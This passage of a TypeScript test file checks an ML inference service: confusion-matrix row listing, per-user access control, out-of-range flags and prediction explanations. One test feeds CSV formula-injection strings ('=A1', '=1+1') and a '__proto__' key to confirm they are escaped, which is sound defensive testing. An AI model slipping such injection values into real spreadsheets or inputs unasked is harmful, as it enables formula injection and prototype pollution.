    ['a model without classes', 'age,sex\n61,m\n40,f\n', 'clusters', { truth: 0, predicted: 0 }],
    ['a negative index', csv, 'm1', { truth: -1, predicted: 0 }],
  ])(
    'refuses a cell of the confusion matrix for %s',
    { meta: { spec: 'screens.confusion-matrix-rows' } },
    async (_what, rows, modelId, cell) => {
      const { inferenceId } = await withDatasetResult(rows, modelId)
      await expect(world.call(ListPredictedRows, { inferenceId, ...cell })).rejects.toMatchObject({
        code: 'inference.cell-unknown',
      })
    },
  )

  test('shows the rows of a cell of the confusion matrix only to users who may read the rows', {
    meta: { spec: 'screens.confusion-matrix-rows' },
  }, async () => {
    const { inferenceId } = await withDatasetResult(csv)
    const cell = { inferenceId, truth: 0, predicted: 1 }
    await expect(world.call(ListPredictedRows, cell, person('bob'))).rejects.toMatchObject({
      code: 'inference.not-found',
    })
    const alone = await world.dataSet(csv, 'Closed', person('alice'), { sharing: 'person' })
    await world.call(InferDataset, { inferenceId, datasetId: alone.datasetId })
    await until(async () => (await statusOf(inferenceId)) === 'completed')
    await expect(world.call(ListPredictedRows, cell, person('dora', { role: 'admin' }))).rejects.toMatchObject({
      code: 'dataset.not-allowed',
    })
  })
})

test('shows the original text of cells that were escaped in the prediction file', async () => {
  const csv = 'age,sex,note,ill\n99,m,"=A1, ""x""\nand more",=1+1\n1,f,\'-y,__proto__\n'
  const { inferenceId } = await withDatasetResult(csv, 'formulas')
  const { records } = await world.call(ListPredictedRows, { inferenceId })
  expect(records.map(({ data, result }) => [data.note, data.ill, result])).toEqual([
    ["'-y", '__proto__', '=1+1'],
    ['=A1, "x"\nand more', '=1+1', '__proto__'],
  ])
  expect(records[0]?.kind === 'classes' && Object.keys(records[0].probabilities)).toEqual(['=1+1', '__proto__'])
})

test('marks rows outside the training range in the prediction file, and counts them for users who may read them', async () => {
  const { datasetId } = await world.dataSet('age,sex\n99999,m\n50,x\n50,m\n', 'Far', person('alice'), {
    sharing: 'person',
  })
  const inferenceId = await created('seen')
  await world.call(InferDataset, { inferenceId, datasetId })
  await until(async () => (await statusOf(inferenceId)) === 'completed')
  const { result } = await world.call(GetInference, { inferenceId })
  expect(result?.summary?.outside).toEqual({
    rows: 2,
    columns: [
      { column: 'age', rows: 1 },
      { column: 'sex', rows: 1 },
    ],
  })
  const lines = linesOf(join(world.dataDir, result?.resultPath ?? ''))
  expect(lines.map((line) => line.split(',').at(-1))).toEqual(['outside', 'age', 'sex', ''])
  const { records } = await world.call(ListPredictedRows, { inferenceId })
  expect(records.map(({ data }) => data.age)).toEqual(['99999', '50', '50'])

  // An administrator sees that the job ran, but not the rows and such small counts.
  const admin = person('dora', { role: 'admin' })
  const shown = await world.call(GetInference, { inferenceId }, admin)
  expect(shown.result).toMatchObject({ rowCount: 3 })
  expect(shown.result).not.toHaveProperty('summary')
  await expect(world.call(ListPredictedRows, { inferenceId }, admin)).rejects.toMatchObject({
    code: 'dataset.not-allowed',
  })
  await expect(world.call(ListPredictedRows, { inferenceId }, person('bob'))).rejects.toMatchObject({
    code: 'inference.not-found',
  })
})

test('returns no pages of predictions for a form', async () => {
  const inferenceId = await created()
  await world.call(Infer, { inferenceId, rows: [{ age: 1, sex: 'm' }] })
  await expect(world.call(ListPredictedRows, { inferenceId })).rejects.toMatchObject({ code: 'inference.not-found' })
})

test('explains the prediction of an additive model from its card, stores nothing, and does so only for users who may predict', async () => {
  const inferenceId = await created('seen')
  const row = { age: 60, sex: 'm' }
  const explanation = await world.call(ExplainRow, { inferenceId, row })
  expect(explanation).toMatchObject({ method: 'linear', unit: 'log-odds', class: 'yes', against: 'no' })
  expect(explanation.columns.map(({ column }) => column)).toEqual(['age', 'sex'])
  expect(explanation.columns[0]?.effect).toBeCloseTo(2, 9)
  expect(await world.call(GetInference, { inferenceId })).toMatchObject({
    result: null,
    inference: { status: 'created' },
  })
  await expect(world.call(ExplainRow, { inferenceId, row }, person('bob'))).rejects.toMatchObject({
    code: 'inference.not-found',
  })
  await expect(world.call(ExplainRow, { inferenceId, row: { age: 60 } })).rejects.toMatchObject({
    code: 'inference.column-missing',
    params: { column: 'sex' },
  })
})
